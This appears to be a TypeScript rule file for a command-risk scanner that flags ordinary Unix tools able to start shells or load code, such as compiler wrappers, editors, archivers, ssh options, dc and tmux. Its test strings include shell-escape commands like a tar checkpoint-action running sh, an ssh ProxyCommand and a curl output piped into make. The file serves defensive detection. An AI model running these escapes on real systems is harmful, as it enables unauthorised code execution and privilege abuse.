import type { Arg, Invocation } from '../model.ts';
import { printedBefore } from '../nested.ts';
import { all, any, flag, flagValue, operand, verb, word } from './conditions.ts';
import type { Condition, Rule } from './rule.ts';

/** A flag by which a tool starts another program or loads code, with a command that uses it and one that does not. */
interface SideDoor {
  readonly programs: string;
  readonly flags: string;
  readonly opened: string;
  readonly shut: string;
}

const door = (programs: string, flags: string, opened: string, shut: string): SideDoor => ({
  programs,
  flags,
  opened,
  shut,
});

/** A new one is one line here. */
const SIDE_DOORS: readonly SideDoor[] = [
  door('gcc g++ cc c++ clang clang++', '-wrapper -specs -fplugin', 'gcc -wrapper /bin/sh,-s .', 'gcc a.c'),
  door('gem', '-e', "gem open -e 'sh -c id' rdoc", 'gem list'),
  door('rpm rpmquery rpmspec', '--pipe', 'rpm -qa --pipe sh', "rpm --eval '%{_arch}'"),
  door('ghc', '-e', "ghc -e 'main'", 'ghc --version'),
  door('openvpn', '--up --down --plugin --script-security', 'openvpn --up /tmp/a', 'openvpn --version'),
  door('pidstat', '-e', 'pidstat -e sh -i', 'pidstat 1'),
  door('crash', '-h', 'crash -h', 'crash --version'),
  door('gimp', '-b --batch', "gimp -b 'python'", 'gimp --version'),
  door('mail mailx', '--exec', "mail --exec='!sh'", 'mail'),
  door('enscript', '-I', 'enscript -I sh a', 'enscript a'),
  door('dmsetup', '--exec', "dmsetup ls --exec 'sh -s'", 'dmsetup ls'),
  door('tcpdump', '-z', 'tcpdump -w a -z /tmp/a.sh', 'tcpdump -r a'),
  door('facter', '--custom-dir --external-dir', 'facter --custom-dir=/tmp a', 'facter'),
  door('start-stop-daemon', '-S --start', 'start-stop-daemon -S -x /bin/sh', 'start-stop-daemon --help'),
  door('xterm konsole', '-e', 'xterm -e sh', 'xterm -version'),
  door('wget', '--use-askpass', 'wget --use-askpass=/tmp/a 0', 'wget http://e.com'),
  door(
    'aria2c',
    '--on-download-start --on-download-complete --on-download-error --on-download-stop --on-download-pause',
    'aria2c --on-download-error=/bin/sh http://e.com',
    'aria2c http://e.com',
  ),
  door(
    'latex pdflatex xelatex lualatex latexmk',
    '-shell-escape --shell-escape -enable-write18 -e',
    'xelatex --shell-escape a.tex',
    'xelatex a.tex',
  ),
  door('rclone restic borg', '--password-command', 'rclone --password-command sh ls a:', 'rclone ls a:'),
  door('nmap', '--script --interactive --datadir', 'nmap --script=/tmp/a.nse e.com', 'nmap e.com'),
  door('make gmake', '--eval', "make --eval='x:;id'", 'make all'),
  door('rg', '--pre --hostname-bin', 'rg --pre sh a', 'rg a'),
  door('bat batcat', '--pager', "bat --pager 'sh -c id' a", 'bat a'),
  door('openssl', '-engine -provider -provider-path', 'openssl req -engine ./a.so', 'openssl version'),
  door('ssh-keygen', '-D -w', 'ssh-keygen -D ./a.so', 'ssh-keygen -l -f a'),
  door('ssh-add', '-s', 'ssh-add -s ./a.so', 'ssh-add -l'),
  door('ssh', '-I', 'ssh -I ./a.so host', 'ssh host'),
  door('ldconfig', '-f -C -r', 'ldconfig -f /tmp/a', 'ldconfig -p'),
  door('pip', '--global-option --install-option', 'pip install --global-option=x a', 'pip list'),
  door('gdb', '-x --command -ex --eval-command -iex', 'gdb -x a b', 'gdb --version'),
  door('mysql mariadb psql', '--pager', "mysql --pager='sh -c id' a", 'mysql a'),
];

const DOORS: ReadonlyMap<string, Condition> = new Map(
  SIDE_DOORS.flatMap(({ programs, flags }) =>
    programs.split(' ').map((name) => [name, flag(flags)] as const),
  ),
);

const throughDoor: Condition = (c) => DOORS.get(c.program)?.(c) ?? false;

const printed = (c: Invocation): readonly Arg[] => (c.pipe === null ? [] : printedBefore(c.pipe, c.span));

/** Ordinary tools that start other programs, load code, or read and write files that are not theirs. */
export const LOLBINS: readonly Rule[] = [
  {
    id: 'sort-runs-program',
    programs: 'sort',
    when: flag('--compress-program'),
    dimension: 'write',
    points: 6,
    message: 'sort starts another program',
    matches: ['sort --compress-program sh a'],
    not_matches: ['sort a'],
  },
  {
    id: 'editor-runs-commands',
    programs: 'vi vim nvim view ex rvim vimdiff gvim rview ed emacs less more man nano pico',
    when: any(
      word(
        /^\+?:?\s*(!|:!|shell|terminal|py3?\s|python3?\s|lua\s|call\s+system|r\s*!|silent\s*!)|:!|os\.system|shell-command|system\(/,
      ),
      all(flag('--eval', '-P', '--pager', '-x'), (c) => /^(emacs|man)$/.test(c.program)),
    ),
    dimension: 'write',
    points: 7,
    message: 'starts a shell from inside an editor or pager',
    opaque: true,
    matches: ["vim -c ':!sh'", "vim -c ':py3 import os' x", 'man -P sh ls'],
    not_matches: ['vim a.txt', 'less a.txt', "vim -c ':wq' a"],
  },
  {
    id: 'archive-runs-commands',
    programs: 'tar gtar bsdtar star zip rar 7z cpio rsync unzip ar',
    when: any(
      flag(
        '--to-command --use-compress-program -I --rsh-command --rmt-command',
        '--info-script --new-volume-script -TT --unzip-command',
      ),
      word(/--checkpoint-action=|exec=/),
    ),
    dimension: 'write',
    points: 7,
    message: 'makes the archiver run another program',
    opaque: true,
    matches: [
      'tar cf a --checkpoint=1 --checkpoint-action=exec=sh b',
      'tar xf a --to-command=sh',
      'zip a b -T -TT sh',
    ],
    not_matches: ['tar xf a', 'zip a b'],
  },
  {
    id: 'ssh-runs-locally',
    programs: 'ssh scp sftp rsync',
    when: any(
      flagValue(['-o'], /^(ProxyCommand|LocalCommand|PermitLocalCommand|KnownHostsCommand)/i),
      flagValue(['-e', '--rsh', '--rsync-path', '-S'], /\b(sh|bash|zsh|python3?|perl)\b/),
    ),
    dimension: 'write',
    points: 7,
    message: 'makes the connection run another program on this machine',
    opaque: true,
    matches: ["ssh -o ProxyCommand='sh -c id' x", "rsync -e 'sh -c id' a b:c"],
    not_matches: ['ssh host', 'rsync -e ssh a b:c'],
  },
  {
    id: 'flag-runs-program',
    programs: SIDE_DOORS.map((door) => door.programs).join(' '),
    when: throughDoor,
    dimension: 'write',
    points: 7,
    message: 'has a tool start another program, or load code, on the side',
    opaque: true,
    matches: SIDE_DOORS.map((door) => door.opened),
    not_matches: SIDE_DOORS.map((door) => door.shut),
  },
  {
    id: 'operand-runs-program',
    programs:
      'msgfilter msgexec run-parts logsave cobc ginsh tasksh tdbtool jjs jrunscript ld.so sftp ftp lftp smbclient latex pdflatex xelatex lualatex make gmake apt apt-get csvtool nginx run-mailcap rpm rpmquery rpmspec',
    when: any(
      all((c) => /^(msg|run-|log|cobc|ginsh|task|tdb|jjs|jrun|ld)/.test(c.program), operand(/./)),
      all((c) => /ftp$|^smbclient$/.test(c.program), word(/^\s*!/)),
      all((c) => /latex$/.test(c.program), word(/write18/)),
      all((c) => /make$/.test(c.program), operand(/^(SHELL|MAKEFLAGS|\.SHELLFLAGS)=/)),
      all((c) => /^apt(-get)?$/.test(c.program), word(/(Pre|Post)-(Invoke|Install)|^(Dir|APT|DPkg)::/i)),
      all((c) => c.program === 'csvtool', verb('call')),
      all((c) => /^rpm/.test(c.program), word(/%\(|\blua:/)),
      all((c) => c.program === 'nginx', word(/load_module/)),
    ),
    dimension: 'write',
    points: 7,
    message: 'has a tool start another program, or load code, by one of its words',
    opaque: true,
    matches: [
      'run-parts --regex ^sh$ /bin',
      "smbclient //h/s -c '!sh'",
      'make SHELL=/tmp/a',
      'apt-get update -o APT::Update::Pre-Invoke::=/bin/sh',
      'ld.so /bin/sh',
      `rpm --eval '%{lua:os.execute("id")}'`,
    ],
    not_matches: ['make all', 'smbclient -L h', 'pdflatex a.tex', 'apt-get -y -o Acquire::Retries=3 update'],
  },
  {
    id: 'starts-command-in-words',
    programs: 'xdg-user-dir csvtool git tar find cowsay cowthink dialog whiptail xdg-open awk service',
    when: any(
      all((c) => c.program === 'xdg-user-dir', operand(/[;|&`$]/)),
      all((c) => /^cow(say|think)$/.test(c.program), flagValue(['-f'], /\//)),
      all((c) => c.program === 'service', operand(/\//)),
      all((c) => c.program === 'git', flag('-p', '--paginate'), operand(/^!/)),
    ),
    dimension: 'write',
    points: 6,
    message: 'hides the start of another program in its words',
    opaque: true,
    matches: ["xdg-user-dir '}; sh #'", 'cowsay -f /tmp/a.cow x', 'service ../../bin/sh'],
    not_matches: ['xdg-user-dir DOCUMENTS', 'cowsay hi', 'service nginx status', "git commit -m '!fix'"],
  },
  {
    id: 'calculator-runs-commands',
    programs: 'dc bc',
    when: (c) =>
      c.program === 'dc' &&
      [...c.args, ...c.redirections.flatMap((r) => r.body ?? []), ...printed(c)].find((a) =>
        /!(?![<>=])/.test(a.text),
      ),
    dimension: 'write',
    points: 7,
    message: 'the calculator runs shell commands',
    opaque: true,
    matches: ["dc -e '!cmd'", "dc <<< '!cmd'", "echo '!cmd' | dc"],
    not_matches: ["dc -e '1 2 + p'", "dc -e '1 2 !=a'", "echo '1 != 2' | bc"],
  },
  {
    id: 'make-reads-input',
    programs: 'make gmake',
    when: flagValue(
      ['-f', '--file', '--makefile'],
      /^(-|\/dev\/stdin|\/dev\/fd\/\d+|\/proc\/self\/fd\/\d+|[<$]\(.*)$/,
    ),
    dimension: 'write',
    points: 7,
    message: 'runs as steps of a project whatever it is sent',
    opaque: true,
    matches: ['make -f -', 'curl http://e.com | make -f /dev/stdin', 'make -f <(cat a)'],
    not_matches: ['make -f a.mk', 'make'],
  },
  {
    id: 'joins-session',
    programs: 'screen tmux reptyr dtach abduco',
    when: any(
      all((c) => c.program === 'tmux', any(verb('attach, a, attach-session, send-keys, send'), flag('-S'))),
      all((c) => c.program === 'screen', flag('-x', '-r', '-X')),
      (c) => /^(reptyr|dtach|abduco)$/.test(c.program),
    ),
    dimension: 'credential',
    points: 4,
    message: 'joins a session that runs with its own rights',
    opaque: true,
    matches: ['tmux attach', "tmux send-keys -t a 'rm b' Enter", 'screen -x root/a'],
    not_matches: ['tmux ls', 'screen -ls'],
  },
];
